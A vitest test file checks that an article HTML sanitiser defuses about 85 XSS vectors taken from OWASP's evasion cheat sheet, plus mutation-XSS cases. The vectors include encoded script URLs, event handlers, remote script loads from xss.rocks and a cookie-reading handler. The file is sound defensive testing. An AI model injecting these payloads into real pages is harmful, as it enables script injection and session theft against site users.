import sanitizeHtml from 'sanitize-html';
import { describe, expect, it } from 'vitest';
import { htmlToText, prepareArticleText, sanitizeArticleHtml } from './sanitize-html.js';

/**
 * The examples of OWASP's "XSS Filter Evasion Cheat Sheet" (and a few mutation-XSS classics):
 * each must come out with no script, no event handler, no script URL and no CSS at all.
 */
const owaspVectors: ReadonlyArray<[name: string, html: string]> = [
  ['basic script', '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>'],
  ['polyglot', "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"],
  ['img javascript src', `<IMG SRC="javascript:alert('XSS');">`],
  ['img no quotes', "<IMG SRC=javascript:alert('XSS')>"],
  ['case insensitive', "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
  ['html entities', '<IMG SRC=javascript:alert(&quot;XSS&quot;)>'],
  ['grave accents', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['malformed a tag', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['malformed a tag unquoted', '<a onmouseover=alert(document.cookie)>xxs link</a>'],
  ['malformed img', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'],
  ['fromCharCode', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'],
  ['default src with handler', `<IMG SRC=# onmouseover="alert('xxs')">`],
  ['empty src with handler', `<IMG SRC= onmouseover="alert('xxs')">`],
  ['no src', `<IMG onmouseover="alert('xxs')">`],
  ['onerror', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  ['onerror encoded', '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">'],
  ['decimal entities', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'],
  ['padded decimal entities', '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>'],
  ['hex entities', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'],
  ['embedded tab', `<IMG SRC="jav\tascript:alert('XSS');">`],
  ['encoded tab', `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ['encoded newline', `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
  ['encoded carriage return', `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ['spaces and meta chars', `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  ['non-alpha non-digit', '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['body onload junk', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['script slash src', '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['extraneous brackets', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['no closing script', '<SCRIPT SRC=http://xss.rocks/xss.js?< B >'],
  ['protocol resolution', '<SCRIPT SRC=//xss.rocks/.j>'],
  ['half open iframe', '<iframe src=http://xss.rocks/scriptlet.html <'],
  ['end title', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ['input image', `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ['body background', `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ['img dynsrc', `<IMG DYNSRC="javascript:alert('XSS')">`],
  ['img lowsrc', `<IMG LOWSRC="javascript:alert('XSS')">`],
  ['list-style-image', `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`],
  ['vbscript', `<IMG SRC='vbscript:msgbox("XSS")'>`],
  ['livescript', '<IMG SRC="livescript:[code]">'],
  ['svg onload', "<svg/onload=alert('XSS')>"],
  ['body onload', "<BODY ONLOAD=alert('XSS')>"],
  ['bgsound', `<BGSOUND SRC="javascript:alert('XSS');">`],
  ['ampersand js', `<BR SIZE="&{alert('XSS')}">`],
  ['stylesheet javascript', `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
  ['remote stylesheet', '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">'],
  ['style import', "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"],
  ['meta link header', '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">'],
  ['moz binding', '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>'],
  ['broken up import', '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>'],
  ['css expression comment', `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
  ['style javascript type', `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`],
  ['style class background', `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`],
  ['style background', `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`],
  ['anonymous expression', `<XSS STYLE="xss:expression(alert('XSS'))">`],
  ['behavior htc', '<XSS STYLE="behavior: url(xss.htc);">'],
  ['meta refresh', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  ['meta refresh data', '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'],
  ['iframe javascript', `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ['iframe event', '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'],
  ['frameset', `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ['table background', `<TABLE BACKGROUND="javascript:alert('XSS')">`],
  ['td background', `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`],
  ['div background-image', `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`],
  ['div unicode escapes', `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`],
  ['div expression', `<DIV STYLE="width: expression(alert('XSS'));">`],
  ['downlevel-hidden', `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`],
  ['base tag', `<BASE HREF="javascript:alert('XSS');//">`],
  ['object tag', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'],
  ['embed svg', '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>'],
  ['script attribute gt', '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  ['script equals', '<SCRIPT ="blah" SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  ['script quoted attribute', `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  ['document.write split', '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  ['href javascript', `<A HREF="javascript:document.location='http://www.example.com/'">XSS</A>`],
  ['href encoded tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['href control prefix', '<a href="&#1;javascript:alert(1)">x</a>'],
  ['href data html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['math mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['form action', '<form action="javascript:alert(1)"><button>x</button></form>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['isindex', '<isindex action=javascript:alert(1) type=image>'],
];

const allowedTags = new Set(['h2', 'h3', 'h4', 'p', 'br', 'hr', 'strong', 'b', 'em', 'i', 'u', 's', 'small', 'sub', 'sup', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'img', 'figure', 'figcaption', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'span']);

/** Every element of the output as an HTML parser reads it back. */
function elementsOf(html: string): Array<{ name: string; attribs: Record<string, string> }> {
  const elements: Array<{ name: string; attribs: Record<string, string> }> = [];
  sanitizeHtml(html, { allowedTags: false, allowedAttributes: false, allowVulnerableTags: true, onOpenTag: (name, attribs) => elements.push({ name, attribs }) });
  return elements;
}

/** A URL is safe when it has no scheme (relative) or one of http, https and mailto. */
function safeUrl(value: string): boolean {
  // Browsers ignore control characters and whitespace inside a scheme.
  // eslint-disable-next-line no-control-regex -- those characters are exactly what is stripped
  const squeezed = value.replace(/[\u0000-\u0020\u007f]/g, '').toLowerCase();
  const scheme = /^([a-z][a-z0-9+.-]*):/.exec(squeezed)?.[1];
  return scheme === undefined ? !squeezed.startsWith('//') : ['http', 'https', 'mailto'].includes(scheme);
}

describe('article HTML sanitising', () => {
  it.each(owaspVectors)('defuses the OWASP example "%s"', (_name, vector) => {
    const clean = sanitizeArticleHtml(vector);
    for (const element of elementsOf(clean)) {
      expect(allowedTags.has(element.name), `<${element.name}> in ${clean}`).toBe(true);
      for (const [attribute, value] of Object.entries(element.attribs)) {
        expect(attribute.startsWith('on'), `${attribute} in ${clean}`).toBe(false);
        expect(attribute).not.toBe('style');
        if (['href', 'src', 'action', 'background', 'dynsrc', 'lowsrc'].includes(attribute)) expect(safeUrl(value), `${attribute}=${value}`).toBe(true);
      }
    }
    expect(clean).not.toMatch(/<\s*\/?\s*(script|style|iframe|object|embed|svg|math|meta|link|base|form)\b/i);
    expect(clean.toLowerCase()).not.toContain('expression(');
  });

  it('keeps the structure an article needs, and opens outside links safely', () => {
    const html = '<h2>Fees</h2><p>See <a href="https://example.org/fees">the table</a> and <a href="/bulletinInfo/3">our notice</a>.</p><ul><li><strong>0.05%</strong></li></ul><img src="/api/files/content/banner-ledger.svg" alt="Ledger">';
    expect(sanitizeArticleHtml(html)).toBe(
      '<h2>Fees</h2><p>See <a href="https://example.org/fees" target="_blank" rel="noopener noreferrer">the table</a> and <a href="/bulletinInfo/3" rel="noopener">our notice</a>.</p><ul><li><strong>0.05%</strong></li></ul><img src="/api/files/content/banner-ledger.svg" alt="Ledger" loading="lazy" />',
    );
  });

  it('keeps the plain text of a translation for search, and strips markup from titles and summaries', () => {
    const prepared = prepareArticleText({ title: '<b>Staking</b> opens', summary: 'Earn <i>daily</i>', content: '<p>Rates are <em>published</em>.</p><script>alert(1)</script>' });
    expect(prepared).toEqual({ title: 'Staking opens', summary: 'Earn daily', content: '<p>Rates are <em>published</em>.</p>', searchText: 'Staking opens Earn daily Rates are published.' });
    expect(htmlToText('<p>a</p>\n<p>b &amp; c &lt;d&gt;</p><script>x</script>')).toBe('a b & c <d>');
  });
});
